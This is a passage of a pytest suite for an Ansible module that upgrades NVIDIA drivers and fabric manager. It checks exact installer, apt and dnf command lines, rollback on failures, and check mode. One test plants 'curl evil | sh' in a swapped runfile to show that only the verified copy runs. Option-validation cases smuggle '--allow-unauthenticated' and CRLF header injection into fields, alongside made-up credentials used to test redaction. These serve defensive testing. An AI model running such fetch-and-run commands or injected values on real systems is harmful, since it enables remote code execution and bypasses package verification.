"""nvidia_driver: exact command lines for the runfile and package methods (apt and dnf), failures, check mode."""

from __future__ import annotations

import hashlib
import json
import os
import pathlib

import pytest
from ansible_collections.gpufleet.lifecycle.plugins.module_utils._driver import node as _driver_node
from ansible_collections.gpufleet.lifecycle.plugins.module_utils._driver import package as _driver_package
from ansible_collections.gpufleet.lifecycle.plugins.module_utils._host import Host
from ansible_collections.gpufleet.lifecycle.plugins.modules import nvidia_driver

FIXTURES = pathlib.Path(__file__).resolve().parents[3] / "fixtures"
OLD, NEW = "535.161.08", "550.90.07"
KERNEL = "6.8.0-45-generic"
SMI_VERSION = ["/usr/bin/nvidia-smi", "--query-gpu=driver_version", "--format=csv,noheader"]
SMI_APPS = ["/usr/bin/nvidia-smi", "--query-compute-apps=pid,process_name,gpu_uuid,used_memory", "--format=csv,noheader,nounits"]
FM_VERSION = ["/usr/bin/nv-fabricmanager", "--version"]
IS_ACTIVE = ["/usr/bin/systemctl", "is-active", "nvidia-persistenced", "nvidia-fabricmanager", "nvidia-dcgm"]
MODINFO = ["/usr/bin/modinfo", "nvidia"]
DPKG_QUERY = ["/usr/bin/dpkg-query", "-W", "-f=${Package} ${Version} ${db:Status-Abbrev}\\n", "nvidia-driver-*", "nvidia-fabricmanager-*"]
RPM_Q = ["/usr/bin/rpm", "-q", "--qf", "%{NAME} %{VERSION}\\n", "nvidia-driver", "kmod-nvidia-open-dkms", "kmod-nvidia-latest-dkms", "nvidia-fabricmanager"]
APT_OPTS = ["-o", "Dpkg::Options::=--force-confdef", "-o", "Dpkg::Options::=--force-confold"]


def proc_version(version):
    return f"NVRM version: NVIDIA UNIX Open Kernel Module for x86_64  {version}  Release Build  (dvs-builder@U16-I3-B03-4-3)  Wed May 29 2024\n"


class Node:
    """A fake node: /proc and /sys under tmp_path, tools answering from a table that changes when the installer runs."""

    def __init__(self, tmp_path, commands, monkeypatch, nvswitch=True, processes=""):
        self.root = tmp_path / "root"
        self.commands = commands
        (self.root / "proc/sys/kernel").mkdir(parents=True)
        (self.root / "proc/sys/kernel/osrelease").write_text(KERNEL + "\n")
        (self.root / "proc/driver/nvidia").mkdir(parents=True)
        if nvswitch:
            (self.root / "proc/driver/nvidia-nvswitch/devices/0000:05:00.0").mkdir(parents=True)
        monkeypatch.setattr(_driver_node, "Host", lambda: Host(str(self.root)))
        self.state_file = tmp_path / "facts.d" / "gpufleet.fact"
        for tool in ("nvidia-smi", "nv-fabricmanager", "systemctl", "modinfo", "lsmod", "rmmod", "modprobe", "sh"):
            commands.tool(tool)
        self.hooks = {}
        self.runfiles = {}  # base name -> the runfile written by runfile()
        self.installer_runs = []  # (path run, its bytes then): the private copy, never the file at source
        original = commands.run_command

        def run_command(module, args, **kwargs):
            args = [self._original(arg) for arg in args]
            answer = original(module, args, **kwargs)
            hook = self.hooks.get(commands.split_timeout(args)[1])
            if hook and answer[0] == 0:
                hook()
            return answer

        monkeypatch.setattr(commands, "run_command", run_command)
        self.set_driver(OLD)
        self.set_fm(OLD if nvswitch else None)
        commands.on(SMI_APPS, stdout=processes)
        commands.on(IS_ACTIVE, stdout="active\nactive\nactive\n" if nvswitch else "active\ninactive\nactive\n", rc=0 if nvswitch else 3)
        commands.on(["/usr/bin/lsmod"], stdout=(FIXTURES / "driver/lsmod_nvidia_535.txt").read_text())
        for unit in ("nvidia-persistenced", "nvidia-fabricmanager", "nvidia-dcgm"):
            commands.on(["/usr/bin/systemctl", "stop", unit])
            commands.on(["/usr/bin/systemctl", "start", unit])
        for mod in ("nvidia_drm", "nvidia_modeset", "nvidia_uvm", "nvidia"):
            commands.on(["/usr/bin/rmmod", mod])
            commands.on(["/usr/bin/modprobe", mod])

    def set_driver(self, version):
        (self.root / "proc/driver/nvidia/version").write_text(proc_version(version))
        self.commands.on(SMI_VERSION, stdout=f"{version}\n{version}\n")
        self.commands.on(MODINFO, rc=1, stderr="modinfo: ERROR: Module nvidia not found.\n")

    def set_fm(self, version):
        if version is None:
            self.commands.binaries.pop("nv-fabricmanager", None)
        else:
            self.commands.tool("nv-fabricmanager")
            self.commands.on(FM_VERSION, stdout=f"Fabric Manager version is : {version}\n")

    def runfile(self, tmp_path, version=NEW):
        path = tmp_path / f"NVIDIA-Linux-x86_64-{version}.run"
        path.write_text("#!/bin/sh\necho simulated\n")
        self.runfiles[path.name] = str(path)
        return str(path), "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()

    def _original(self, arg):
        """The runfile's own path for its private copy (the argument lists below name the source), the copy's bytes kept."""
        folder, name = os.path.split(arg)
        if os.path.basename(folder).startswith("gpufleet-artifact.") and name in self.runfiles:
            self.installer_runs.append((arg, pathlib.Path(arg).read_bytes()))
            return self.runfiles[name]
        return arg

    def argvs(self):
        return [call["argv"] for call in self.commands.calls]


READ = [SMI_VERSION, MODINFO, FM_VERSION, IS_ACTIVE]
STOP = [["/usr/bin/systemctl", "stop", u] for u in ("nvidia-dcgm", "nvidia-fabricmanager", "nvidia-persistenced")]
UNLOAD = [["/usr/bin/lsmod"]] + [["/usr/bin/rmmod", m] for m in ("nvidia_drm", "nvidia_modeset", "nvidia_uvm", "nvidia")]
LOAD = [["/usr/bin/modprobe", m] for m in ("nvidia", "nvidia_uvm", "nvidia_modeset", "nvidia_drm")]
START = [["/usr/bin/systemctl", "start", u] for u in ("nvidia-persistenced", "nvidia-fabricmanager", "nvidia-dcgm")]


@pytest.fixture
def node(tmp_path, commands, monkeypatch):
    def make(**kwargs):
        return Node(tmp_path, commands, monkeypatch, **kwargs)

    return make


def runfile_args(node, tmp_path, **extra):
    source, checksum = node.runfile(tmp_path)
    args = {"version": NEW, "source": source, "checksum": checksum, "state_file": str(node.state_file), "package_manager": "apt"}
    args.update(extra)
    return args


def apt_tools(commands):
    for tool in ("apt-get", "apt-mark", "dpkg-query"):
        commands.tool(tool)


def test_runfile_upgrade_exact_commands_on_debian(node, tmp_path, commands, run_module):
    n = node()
    apt_tools(commands)
    args = runfile_args(n, tmp_path)
    installer = ["/usr/bin/sh", args["source"], "--silent", "--no-questions", "-m=kernel-open", "--dkms"]
    commands.on(installer)
    n.hooks[tuple(installer)] = lambda: n.set_driver(NEW)
    apt_install = ["/usr/bin/apt-get", "install", "-y", "-q", "--allow-change-held-packages", *APT_OPTS, "nvidia-fabricmanager-550=550.90.07-1"]
    commands.on(apt_install)
    n.hooks[tuple(apt_install)] = lambda: n.set_fm(NEW)
    commands.on(["/usr/bin/apt-mark", "hold", "nvidia-fabricmanager-550"])

    result = run_module(nvidia_driver.main, args)

    assert not result.get("failed"), result.get("msg")
    assert result["changed"] is True
    assert result["reboot_required"] is False
    assert result["diff"] == {"before": {"driver": OLD, "kernel_module": "open", "fabricmanager": OLD},
                              "after": {"driver": NEW, "kernel_module": "open", "fabricmanager": NEW}}
    assert n.argvs() == [*READ, SMI_APPS, *STOP, *UNLOAD, installer, apt_install,
                         ["/usr/bin/apt-mark", "hold", "nvidia-fabricmanager-550"], *LOAD, *START, *READ]
    assert result["after"]["driver"]["loaded_version"] == NEW
    assert result["after"]["fabricmanager"]["version"] == NEW
    doc = json.loads(n.state_file.read_text())
    assert doc["last_known_good"]["driver"]["version"] == OLD
    assert doc["last_known_good"]["fabricmanager"]["version"] == OLD
    assert [(h["action"], h["result"]) for h in doc["history"]] == [("upgrade", "started"), ("upgrade", "ok")]


def test_runfile_before_560_uses_m_flag_and_no_dkms(node, tmp_path, commands, run_module):
    n = node(nvswitch=False)
    n.set_driver("525.147.05")
    source, checksum = n.runfile(tmp_path, "535.161.08")
    args = {"version": "535.161.08", "source": source, "checksum": checksum, "state_file": str(n.state_file), "dkms": False,
            "kernel_module": "proprietary", "kernel_source_path": "/usr/src/linux-headers-" + KERNEL}
    installer = ["/usr/bin/sh", source, "--silent", "--no-questions", "-m=kernel", "--no-dkms", "--kernel-source-path=/usr/src/linux-headers-" + KERNEL]
    commands.on(installer)
    n.hooks[tuple(installer)] = lambda: n.set_driver("535.161.08")
    result = run_module(nvidia_driver.main, args)
    assert not result.get("failed"), result.get("msg")
    assert installer in n.argvs()
    # PCIe node: the fabric manager is left alone and never started.
    assert ["/usr/bin/systemctl", "start", "nvidia-fabricmanager"] not in n.argvs()


def test_checksum_mismatch_changes_nothing(node, tmp_path, commands, run_module):
    n = node()
    apt_tools(commands)
    args = runfile_args(n, tmp_path, checksum="sha256:" + "0" * 64)
    result = run_module(nvidia_driver.main, args)
    assert result["failed"]
    assert "checksum mismatch" in result["msg"] and "Nothing was changed" in result["msg"]
    assert n.argvs() == READ
    assert not n.state_file.exists()


def test_the_installer_runs_the_verified_copy_not_the_file_at_source(node, tmp_path, commands, run_module):
    """A runfile in a folder a job user can write, swapped after the sha256 check: the installer still runs what was checked."""
    n = node()
    apt_tools(commands)
    args = runfile_args(n, tmp_path)
    good = pathlib.Path(args["source"]).read_bytes()
    installer = ["/usr/bin/sh", args["source"], "--silent", "--no-questions", "-m=kernel-open", "--dkms"]
    commands.on(installer)
    n.hooks[tuple(installer)] = lambda: n.set_driver(NEW)
    apt_install = ["/usr/bin/apt-get", "install", "-y", "-q", "--allow-change-held-packages", *APT_OPTS, "nvidia-fabricmanager-550=550.90.07-1"]
    commands.on(apt_install)
    n.hooks[tuple(apt_install)] = lambda: n.set_fm(NEW)
    commands.on(["/usr/bin/apt-mark", "hold", "nvidia-fabricmanager-550"])
    # The first command after the check (the GPU process listing): the attacker's moment.
    n.hooks[tuple(SMI_APPS)] = lambda: pathlib.Path(args["source"]).write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    result = run_module(nvidia_driver.main, args)
    assert n.installer_runs, "the installer ran the file at source, not a private copy"
    (copy, ran), = n.installer_runs
    assert ran == good and copy != args["source"]
    assert not result.get("failed"), result.get("msg")
    assert result["runfile"] == {"source": args["source"], "sha256": hashlib.sha256(good).hexdigest()}


def test_runfile_method_removes_the_driver_without_a_runfile(node, tmp_path, commands, run_module):
    n = node(nvswitch=False)
    apt_tools(commands)
    commands.tool("nvidia-uninstall")
    result = run_module(nvidia_driver.main, {"state": "absent", "fabricmanager": "skip", "state_file": str(n.state_file), "package_manager": "apt"},
                        check_mode=True)
    assert not result.get("failed"), result.get("msg")
    assert result["plan"]["driver"]["action"] == "remove"
    commands.on(["/usr/bin/nvidia-uninstall", "--silent"])
    result = run_module(nvidia_driver.main, {"state": "absent", "fabricmanager": "skip", "state_file": str(n.state_file), "package_manager": "apt"})
    assert ["/usr/bin/nvidia-uninstall", "--silent"] in n.argvs(), result.get("msg")


def test_gpu_process_is_refused_with_its_pid(node, tmp_path, commands, run_module):
    n = node(processes="424242, python3, GPU-5d3c0b8e-1a2b-3c4d-5e6f-708192a3b4c5, 30712\n")
    apt_tools(commands)
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path))
    assert result["failed"]
    assert "python3 (pid 424242" in result["msg"] and "gpu_processes: wait" in result["msg"]
    assert not any(argv[1:2] in (["stop"], ["--silent"]) or argv[0].endswith("rmmod") for argv in n.argvs())
    assert json.loads(n.state_file.read_text())["history"][-1]["result"] == "failed"


def test_dkms_failure_reloads_the_old_driver_and_says_what_to_do(node, tmp_path, commands, run_module):
    n = node()
    apt_tools(commands)
    args = runfile_args(n, tmp_path)
    installer = ["/usr/bin/sh", args["source"], "--silent", "--no-questions", "-m=kernel-open", "--dkms"]
    commands.on(installer, rc=1, stdout=(FIXTURES / "driver/installer_dkms_failure.txt").read_text())
    result = run_module(nvidia_driver.main, args)
    assert result["failed"]
    assert "DKMS" in result["msg"] and f"linux-headers-{KERNEL}" in result["msg"]
    calls = n.argvs()
    assert calls[calls.index(installer) + 1 :] == [["/usr/bin/modprobe", m] for m in ("nvidia", "nvidia_uvm", "nvidia_modeset", "nvidia_drm")] + START + READ
    assert result["node_state"]["driver_loaded"] == OLD
    assert result["node_state"]["nvidia_smi"] == "ok"


def test_downgrade_refused_without_allow_downgrade(node, tmp_path, commands, run_module):
    n = node()
    n.set_driver("570.124.06")
    apt_tools(commands)
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path))
    assert result["failed"] and "allow_downgrade: true" in result["msg"]
    assert n.argvs() == READ


def test_check_mode_plans_and_touches_nothing(node, tmp_path, commands, run_module):
    n = node()
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path), check_mode=True)
    assert result["changed"] is True
    assert result["plan"]["driver"]["action"] == "upgrade"
    assert result["plan"]["fabricmanager"]["action"] == "upgrade"
    assert n.argvs() == READ
    assert not n.state_file.exists()


def test_already_at_version_is_no_change(node, tmp_path, commands, run_module):
    n = node()
    n.set_driver(NEW)
    n.set_fm(NEW)
    for check_mode in (False, True):
        result = run_module(nvidia_driver.main, runfile_args(n, tmp_path), check_mode=check_mode)
        assert result["changed"] is False
    assert n.argvs() == READ + READ


def test_fabric_manager_wrapper_without_program_is_not_installed(node, tmp_path, commands, run_module):
    """A PCIe node whose nv-fabricmanager is a leftover wrapper (exit 127): not installed, left alone."""
    n = node(nvswitch=False)
    commands.tool("nv-fabricmanager")
    commands.on(FM_VERSION, rc=127, stderr="nv-fabricmanager: command not found\n")
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path), check_mode=True)
    assert result["before"]["fabricmanager"] == {"installed": False, "version": None}
    assert result["plan"]["fabricmanager"] == {"action": "none", "before": None, "after": None, "managed": False}


# -- package method --------------------------------------------------------------------------


def test_apt_upgrade_exact_commands_on_ubuntu(node, tmp_path, commands, run_module, monkeypatch):
    monkeypatch.setattr(_driver_package, "get_distribution", lambda: "Ubuntu")
    n = node()
    apt_tools(commands)
    commands.on(DPKG_QUERY, stdout=(FIXTURES / "driver/dpkg_query_535_held.txt").read_text())
    install = ["/usr/bin/apt-get", "install", "-y", "-q", "--allow-change-held-packages", *APT_OPTS,
               "nvidia-driver-550-open=550.90.07-1", "nvidia-fabricmanager-550=550.90.07-1"]
    hold = ["/usr/bin/apt-mark", "hold", "nvidia-driver-550-open", "nvidia-fabricmanager-550"]
    commands.on(install)
    commands.on(hold)

    def installed():
        n.set_driver(NEW)
        n.set_fm(NEW)
        commands.on(DPKG_QUERY, stdout="nvidia-driver-550-open 550.90.07-1 hi \nnvidia-fabricmanager-550 550.90.07-1 hi \n")

    n.hooks[tuple(install)] = installed
    result = run_module(nvidia_driver.main, {"version": NEW, "method": "package", "state_file": str(n.state_file)})
    assert not result.get("failed"), result.get("msg")
    read = [DPKG_QUERY, SMI_VERSION, FM_VERSION, IS_ACTIVE]
    assert n.argvs() == [*read, SMI_APPS, *STOP, *UNLOAD, install, hold, *LOAD, *START, *read]
    install_call = next(c for c in commands.calls if c["argv"] == install)
    assert install_call["environ_update"]["DEBIAN_FRONTEND"] == "noninteractive"
    assert result["before"]["driver"]["held"] is True

    # Idempotent: same version, held: nothing to do, in both modes.
    for check_mode in (False, True):
        commands.calls.clear()
        again = run_module(nvidia_driver.main, {"version": NEW, "method": "package", "state_file": str(n.state_file)}, check_mode=check_mode)
        assert again["changed"] is False
        assert [c["argv"] for c in commands.calls] == read


def test_apt_downgrade_adds_allow_downgrades(node, tmp_path, commands, run_module):
    n = node(nvswitch=False)
    apt_tools(commands)
    commands.on(DPKG_QUERY, stdout="nvidia-driver-550-open 550.90.07-1 hi \n")
    n.set_driver(NEW)
    install = ["/usr/bin/apt-get", "install", "-y", "-q", "--allow-change-held-packages", "--allow-downgrades", *APT_OPTS,
               "nvidia-driver-535-open=535.161.08-1"]
    commands.on(install)
    commands.on(["/usr/bin/apt-mark", "hold", "nvidia-driver-535-open"])
    n.hooks[tuple(install)] = lambda: (n.set_driver(OLD), commands.on(DPKG_QUERY, stdout="nvidia-driver-535-open 535.161.08-1 hi \n"))
    args = {"version": OLD, "method": "package", "package_manager": "apt", "allow_downgrade": True, "state_file": str(n.state_file)}
    result = run_module(nvidia_driver.main, args)
    assert not result.get("failed"), result.get("msg")
    assert install in n.argvs()
    assert result["plan"]["driver"]["action"] == "downgrade"


def test_apt_released_hold_is_put_back(node, tmp_path, commands, run_module):
    n = node(nvswitch=False)
    apt_tools(commands)
    n.set_driver(NEW)
    commands.on(DPKG_QUERY, stdout="nvidia-driver-550-open 550.90.07-1 ii \n")
    commands.on(["/usr/bin/apt-mark", "hold", "nvidia-driver-550-open"])
    result = run_module(nvidia_driver.main, {"version": NEW, "method": "package", "package_manager": "apt", "state_file": str(n.state_file)})
    assert result["changed"] is True and result["plan"]["driver"]["action"] == "hold"
    assert ["/usr/bin/apt-mark", "hold", "nvidia-driver-550-open"] in n.argvs()
    assert not any(a[0].endswith(("rmmod", "apt-get")) for a in n.argvs())


def test_dnf_upgrade_exact_commands_on_rhel(node, tmp_path, commands, run_module, monkeypatch):
    monkeypatch.setattr(_driver_package, "get_distribution", lambda: "Rocky")
    n = node()
    for tool in ("dnf", "rpm"):
        commands.tool(tool)
    commands.on(RPM_Q, rc=1, stdout=(FIXTURES / "driver/rpm_q_535.txt").read_text())
    commands.on(["/usr/bin/dnf", "versionlock", "list"], stdout=(FIXTURES / "driver/dnf_versionlock_list_535.txt").read_text())
    unlock = ["/usr/bin/dnf", "versionlock", "delete", "nvidia-driver", "kmod-nvidia-open-dkms", "nvidia-fabricmanager"]
    specs = ["nvidia-driver-550.90.07", "kmod-nvidia-open-dkms-550.90.07", "nvidia-fabricmanager-550.90.07-1"]
    install = ["/usr/bin/dnf", "install", "-y", "--allowerasing", *specs]
    lock = ["/usr/bin/dnf", "versionlock", "add", *specs]
    for argv in (unlock, install, lock):
        commands.on(argv)

    def installed():
        n.set_driver(NEW)
        n.set_fm(NEW)
        commands.on(RPM_Q, rc=1, stdout="nvidia-driver 550.90.07\nkmod-nvidia-open-dkms 550.90.07\nnvidia-fabricmanager 550.90.07\n")
        commands.on(["/usr/bin/dnf", "versionlock", "list"], stdout="nvidia-driver-3:550.90.07-1.el9.*\nkmod-nvidia-open-dkms-3:550.90.07-1.el9.*\n"
                    "nvidia-fabricmanager-550.90.07-1.*\n")

    n.hooks[tuple(install)] = installed
    result = run_module(nvidia_driver.main, {"version": NEW, "method": "package", "state_file": str(n.state_file)})
    assert not result.get("failed"), result.get("msg")
    read = [RPM_Q, ["/usr/bin/dnf", "versionlock", "list"], SMI_VERSION, FM_VERSION, IS_ACTIVE]
    assert n.argvs() == [*read, SMI_APPS, *STOP, *UNLOAD, unlock, install, lock, *LOAD, *START, *read]
    assert result["after"]["driver"]["held"] is True


def test_package_unload_refused_means_reboot_required(node, tmp_path, commands, run_module):
    n = node(nvswitch=False)
    apt_tools(commands)
    commands.on(DPKG_QUERY, stdout="nvidia-driver-535-open 535.161.08-1 hi \n")
    commands.on(["/usr/bin/rmmod", "nvidia"], rc=1, stderr="rmmod: ERROR: Module nvidia is in use\n")
    install = ["/usr/bin/apt-get", "install", "-y", "-q", "--allow-change-held-packages", *APT_OPTS, "nvidia-driver-550-open=550.90.07-1"]
    commands.on(install)
    commands.on(["/usr/bin/apt-mark", "hold", "nvidia-driver-550-open"])
    n.hooks[tuple(install)] = lambda: commands.on(DPKG_QUERY, stdout="nvidia-driver-550-open 550.90.07-1 hi \n")
    args = {"version": NEW, "method": "package", "package_manager": "apt", "busy_modules": "reboot", "state_file": str(n.state_file)}
    result = run_module(nvidia_driver.main, args)
    assert not result.get("failed"), result.get("msg")
    assert result["reboot_required"] is True
    calls = n.argvs()
    # the three modules that did unload are loaded again, nvidia first
    assert calls[calls.index(["/usr/bin/rmmod", "nvidia"]) + 1 : calls.index(install)] == [
        ["/usr/bin/modprobe", m] for m in ("nvidia_uvm", "nvidia_modeset", "nvidia_drm")]
    # The old modules stay loaded until the reboot: persistence comes back on them, the fabric manager does not.
    after_install = calls[calls.index(install):]
    assert ["/usr/bin/systemctl", "start", "nvidia-persistenced"] in after_install
    assert not [c for c in after_install if c[:2] == ["/usr/bin/systemctl", "start"] and "nvidia-fabricmanager" in c]


def test_package_unload_refused_installs_nothing_by_default(node, tmp_path, commands, run_module):
    """busy_modules: refuse (the default): a holder of /dev/nvidia* keeps its libraries; the old modules and units come back."""
    n = node(nvswitch=False)
    apt_tools(commands)
    commands.on(DPKG_QUERY, stdout="nvidia-driver-535-open 535.161.08-1 hi \n")
    commands.on(["/usr/bin/rmmod", "nvidia"], rc=1, stderr="rmmod: ERROR: Module nvidia is in use\n")
    result = run_module(nvidia_driver.main, {"version": NEW, "method": "package", "package_manager": "apt", "state_file": str(n.state_file)})
    assert result["failed"] is True
    assert result["msg"].startswith("cannot unload the nvidia kernel modules (rmmod failed with exit status 1: rmmod: ERROR: Module nvidia is in use)")
    assert "nothing was installed and the previous driver is still loaded" in result["msg"] and "busy_modules: reboot" in result["msg"]
    calls = n.argvs()
    assert not any(c[0].endswith(("apt-get", "apt-mark")) for c in calls)
    # The three modules that did unload are loaded again (once), then the stopped units start again.
    after = calls[calls.index(["/usr/bin/rmmod", "nvidia"]) + 1 :]
    reload = [["/usr/bin/modprobe", m] for m in ("nvidia_uvm", "nvidia_modeset", "nvidia_drm")]
    starts = [["/usr/bin/systemctl", "start", u] for u in ("nvidia-persistenced", "nvidia-dcgm")]
    assert after[: len(reload) + len(starts)] == reload + starts
    assert result["node_state"]["driver_installed"] == OLD and result["node_state"]["driver_loaded"] == OLD
    assert [h["result"] for h in json.loads(n.state_file.read_text())["history"]] == ["started", "failed"]


@pytest.mark.parametrize("policy", ["refuse", "wait", "kill"])
def test_gpu_processes_unreadable_changes_nothing(node, tmp_path, commands, run_module, policy):
    """nvidia-smi exit 15 (a GPU fell off the bus) on a node that runs jobs: no policy may read that as 'no processes'."""
    n = node()
    apt_tools(commands)
    commands.on(SMI_APPS, rc=15, stderr="Unable to determine the device handle for GPU0000:1B:00.0: Unknown Error\n",
                stdout="424242, python3, GPU-5d3c0b8e-1a2b-3c4d-5e6f-708192a3b4c5, 30712\n")
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path, gpu_processes=policy, timeout=5))
    assert result["failed"] is True
    assert result["msg"].startswith("cannot list the GPU processes (nvidia-smi exit status 15: Unable to determine the device handle")
    assert "nothing was changed" in result["msg"]
    assert result["rc"] == 15 and result["cmd"] == SMI_APPS
    assert n.argvs() == [*READ, SMI_APPS, *READ]  # read, list the processes, fail; read again for node_state
    assert [h["result"] for h in json.loads(n.state_file.read_text())["history"]] == ["started", "failed"]


def test_service_that_will_not_stop_restores_the_ones_stopped(node, tmp_path, commands, run_module):
    """DCGM stopped, the fabric manager will not: DCGM starts again and nothing else is touched."""
    n = node()
    apt_tools(commands)
    commands.on(["/usr/bin/systemctl", "stop", "nvidia-fabricmanager"], rc=1, stderr="Job for nvidia-fabricmanager.service canceled.\n")
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path))
    assert result["failed"] is True
    assert result["msg"].startswith("cannot stop nvidia-fabricmanager before changing the driver")
    assert "Nothing was changed" in result["msg"]
    calls = n.argvs()
    assert calls[len(READ) + 1 : len(READ) + 4] == [
        ["/usr/bin/systemctl", "stop", "nvidia-dcgm"],
        ["/usr/bin/systemctl", "stop", "nvidia-fabricmanager"],
        ["/usr/bin/systemctl", "start", "nvidia-dcgm"],
    ]
    assert not any(c[0].endswith(("rmmod", "lsmod", "sh", "apt-get")) for c in calls)
    assert ["/usr/bin/systemctl", "start", "nvidia-fabricmanager"] not in calls
    assert [h["result"] for h in json.loads(n.state_file.read_text())["history"]] == ["started", "failed"]


@pytest.mark.parametrize(
    ("lsmod", "message"),
    [
        ({"rc": 1, "stderr": "lsmod: ERROR: could not open '/proc/modules'\n"}, "changing the driver failed: lsmod failed with exit status 1"),
        ({"stdout": "this is not lsmod output\n"}, "changing the driver failed on output that does not read as expected: lsmod: cannot read line"),
    ],
    ids=["tool-error", "parse-error"],
)
def test_unexpected_failure_is_recorded_and_explained(node, tmp_path, commands, run_module, lsmod, message):
    n = node()
    apt_tools(commands)
    commands.on(["/usr/bin/lsmod"], **lsmod)
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path))
    assert result["failed"] is True
    assert result["msg"].startswith(message)
    assert result["node_state"]["driver_loaded"] == OLD
    calls = n.argvs()
    assert calls[calls.index(["/usr/bin/lsmod"]) + 1 :][:3] == START  # the stopped units come back
    assert [h["result"] for h in json.loads(n.state_file.read_text())["history"]] == ["started", "failed"]
    assert json.loads(n.state_file.read_text())["history"][-1]["details"]["message"].startswith(message)


# Test credentials, made up: they must not come back in any message.
SECRET_URL = "https://fleet:hunter2@artifacts.example.com/nvidia/NVIDIA-Linux-x86_64-550.90.07.run?X-Amz-Signature=secret&X-Amz-Credential=AKIA"  # noqa: S105
SHOWN_URL = "https://artifacts.example.com/nvidia/NVIDIA-Linux-x86_64-550.90.07.run"


class _Body:
    def __init__(self, data):
        self.data = [data, b""]

    def read(self, _size):
        return self.data.pop(0)


def _fetch_mismatch(module, url, **_kwargs):
    return _Body(b"not the runfile"), {"status": 200, "msg": "OK", "url": url}


def _fetch_forbidden(module, url, **_kwargs):
    return None, {"status": 403, "msg": f"HTTP Error 403: Forbidden for {url}", "url": url}


def _fetch_fails_module(module, url, **_kwargs):
    module.fail_json(msg=f"Failed to validate the SSL certificate for {url}", url=url)


@pytest.mark.parametrize("fetch", [_fetch_mismatch, _fetch_forbidden, _fetch_fails_module], ids=["checksum", "http-403", "fetch-fail-json"])
def test_credentials_and_signature_never_appear_in_a_failure(node, tmp_path, commands, run_module, monkeypatch, fetch):
    from ansible_collections.gpufleet.lifecycle.plugins.module_utils import _artifact

    seen = {}

    def fake_fetch(module, url, **kwargs):
        seen.update(username=module.params["url_username"], force=module.params["force_basic_auth"])
        return fetch(module, url, **kwargs)

    monkeypatch.setattr(_artifact, "fetch_url", fake_fetch)
    n = node()
    apt_tools(commands)
    args = runfile_args(n, tmp_path, checksum="sha256:" + "0" * 64, url_username="fleet", url_password="s3cr3t-pw")  # noqa: S106 (made up)
    del args["source"]
    args["presigned_url"] = SECRET_URL
    result = run_module(nvidia_driver.main, args)
    assert result["failed"] is True
    assert SHOWN_URL in result["msg"]
    text = json.dumps(result)
    for secret in ("hunter2", "X-Amz-Signature", "secret", "AKIA", "s3cr3t-pw", "fleet:"):
        assert secret not in text, (secret, result["msg"])
    assert seen == {"username": "fleet", "force": True}
    assert n.argvs() == READ  # verified (or failed to download) before anything changed


def test_check_mode_predicts_reboot_for_activation(node, tmp_path, commands, run_module):
    """Package 550 installed beside loaded 535 modules: activating it is a reboot (predicted); a plain upgrade is not."""
    n = node(nvswitch=False)
    apt_tools(commands)
    commands.on(DPKG_QUERY, stdout="nvidia-driver-550-open 550.90.07-1 hi \n")
    args = {"version": NEW, "method": "package", "package_manager": "apt", "state_file": str(n.state_file)}
    result = run_module(nvidia_driver.main, args, check_mode=True)
    assert (result["plan"]["driver"]["action"], result["reboot_required"]) == ("activate", True)
    upgrade = run_module(nvidia_driver.main, dict(args, version="570.124.06"), check_mode=True)
    assert (upgrade["plan"]["driver"]["action"], upgrade["reboot_required"]) == ("upgrade", False)


def test_check_mode_predicts_reboot_when_a_gpu_fell_off_the_bus(node, tmp_path, commands, run_module):
    n = node()
    commands.on(SMI_VERSION, rc=15, stderr="Unable to determine the device handle for GPU0000:1B:00.0: Unknown Error\n")
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path), check_mode=True)
    assert result["before"]["driver"]["nvidia_smi"] == "gpu_lost"
    assert (result["plan"]["driver"]["action"], result["reboot_required"]) == ("upgrade", True)
    assert n.argvs() == READ


def test_installer_flags_from_r560():
    from ansible_collections.gpufleet.lifecycle.plugins.module_utils._driver.runfile import installer_args

    assert installer_args("570.124.06", "open", True) == ["--silent", "--no-questions", "--kernel-module-type=open", "--dkms"]
    assert installer_args("560.35.03", "proprietary", False) == ["--silent", "--no-questions", "--kernel-module-type=proprietary", "--no-dkms"]


# -- every option is checked before the first command (issue 8) -----------------------------------------

BAD_OPTIONS = [
    ({"version": "550.90.07\n"}, "version '550.90.07\\n' is not a whole NVIDIA driver version"),
    ({"version": "latest"}, "version 'latest' is not a whole NVIDIA driver version"),
    ({"version": "535.161.8"}, "version '535.161.8' is not a whole NVIDIA driver version"),
    ({"timeout": 0}, "timeout must be a whole number of seconds from 1 to 86400, got 0"),
    ({"timeout": -5}, "timeout must be a whole number of seconds from 1 to 86400, got -5"),
    ({"timeout": 86401}, "timeout must be a whole number of seconds from 1 to 86400, got 86401"),
    ({"checksum": "sha256:" + "ab" * 31}, "checksum 'sha256:" + "ab" * 31 + "' is not a sha256"),
    ({"checksum": "ab" * 32 + "\nab"}, "is not a sha256"),
    ({"package_release": "1\n"}, "package_release '1\\n' is not a package release"),
    ({"package_release": "1 --allow-unauthenticated"}, "package_release '1 --allow-unauthenticated' is not a package release"),
    ({"source": "relative/NVIDIA-Linux-x86_64-550.90.07.run"}, "source must be an absolute path on the node or an https:// URL"),
    ({"source": None}, "method: runfile needs source"),
    ({"checksum": None}, "method: runfile needs source"),
    ({"state_file": "facts.d/gpufleet.fact"}, "state_file must be an absolute path"),
    ({"kernel_source_path": "linux-headers"}, "kernel_source_path must be an absolute path"),
    ({"rollout_id": "wave 1\nresult: ok"}, "rollout_id 'wave 1\\nresult: ok' is not a rollout id"),
    ({"url_password": "pw"}, "url_password needs url_username"),
    ({"url_headers": {"Authorization": "Bearer x\r\nX-Injected: 1"}}, "url_headers: the value of Authorization"),
    ({"url_headers": {"Bad Name": "x"}}, "url_headers: 'Bad Name' is not an HTTP header name"),
    ({"source": "http://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run", "url_username": "fleet", "url_password": "pw"},
     "source http://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run is not an https:// URL"),
    ({"source": "ftp://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run", "url_headers": {"X-Api-Key": "k"}},
